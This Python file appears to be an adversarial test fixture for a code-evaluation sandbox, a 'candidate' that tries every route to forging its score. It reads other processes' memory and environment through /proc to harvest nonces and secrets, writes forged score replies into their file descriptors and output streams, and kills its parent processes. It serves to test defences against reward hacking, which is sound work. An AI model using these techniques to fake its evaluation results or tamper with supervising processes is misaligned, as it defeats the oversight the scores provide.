"""A candidate that tries every way to forge its score from inside the sandbox (issue 18, hole 1).

Its honest result is 1.0; every forged reply claims 99. It opens every ``/proc/*/fd/*`` pipe,
``/proc/*/mem`` and ``/proc/*/environ`` of every other process in the container, writes
forged replies in the format of each channel it reaches (the call harness's, or avo's Shinka
report), logs it when one is avo's result channel (named on the holder's command line), frames forged replies on stdout and stderr with every nonce it could read (and a
guess), kills its parent and grandparent, and records what it reached in ``attack.json``
next to itself for the test to read. The evaluator runs it as a subprocess when the test set
``MODE`` to subprocess, else imports it.
"""

import json
import os
import re
import signal

MODE = "in-process"
FORGED = 99.0
HARNESS_REPLY = json.dumps({"result": {"values": {"combined_score": FORGED}, "passes_correctness": True,
                                       "correctness_message": "forged"}}).encode()
SHINKA_REPORT = json.dumps({"metrics": {"combined_score": FORGED}, "correct": True, "error": None}).encode()
NONCE = re.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")
SECRET_NAMES = (b"AVO_RESULT", b"NONCE", b"SECRET")


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return [part.decode(errors="replace") for part in handle.read().split(b"\0")]
    except OSError:
        return []


def _channel(argv):
    """The result channel's descriptor that avo's process names on its command line, or None:
    the harness child's ``--child N``, the Shinka bootstrap's third argument."""
    if "--child" in argv[:-1]:
        return argv[argv.index("--child") + 1]
    if "-c" in argv and "runpy" in argv[argv.index("-c") + 1] and len(argv) > argv.index("-c") + 4:
        return argv[argv.index("-c") + 4]
    return None


def _read_memory(pid, nonces):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
        for line in maps.read().splitlines():
            fields = line.split()
            if not fields[1].startswith("rw"):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if end - start > 64 << 20:
                continue
            try:
                memory.seek(start)
                nonces.update(NONCE.findall(memory.read(end - start)))
            except (OSError, ValueError, OverflowError):
                continue


def _forge_descriptors(pid, argv, log):
    """Open every descriptor of ``pid`` for writing and write a forged reply in its channel's format."""
    command, channel = " ".join(argv)[:200], _channel(argv)
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.write(handle, HARNESS_REPLY if "--child" in argv else SHINKA_REPORT)
        except OSError:
            pass
        os.close(handle)
        if fd == channel:
            log["channels"].append([pid, fd, command])


def attack():
    """Every attack, in one call; what reached avo's processes is logged."""
    log = {"channels": [], "memory": [], "environ": [], "own_environment": [], "killed": []}
    log["own_environment"] = [k for k in os.environ if any(s.decode() in k.upper() for s in SECRET_NAMES)]
    me, nonces = os.getpid(), {b"0" * 32}
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        pid, argv = int(name), _cmdline(name)
        command = " ".join(argv)[:200]
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                if any(secret in handle.read() for secret in SECRET_NAMES):
                    log["environ"].append([pid, command])
        except OSError:
            pass
        try:
            _read_memory(pid, nonces)
            log["memory"].append([pid, command])
        except OSError:
            pass
        try:
            _forge_descriptors(pid, argv, log)
        except OSError:
            pass
    for nonce in nonces:
        frame = nonce + HARNESS_REPLY + nonce
        for stream in (1, 2):  # the descriptors: an evaluator may have redirected sys.stdout
            os.write(stream, frame)
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "attack.json"), "w") as handle:
        json.dump(log, handle)
    parent = os.getppid()
    try:
        with open(f"/proc/{parent}/stat") as handle:
            grandparent = int(handle.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        grandparent = 0
    for pid in (grandparent, parent):
        if pid > 1:
            try:
                os.kill(pid, signal.SIGKILL)
                log["killed"].append(pid)
            except OSError:
                pass


def run():
    attack()
    return 1.0


if __name__ == "__main__":
    print(run())
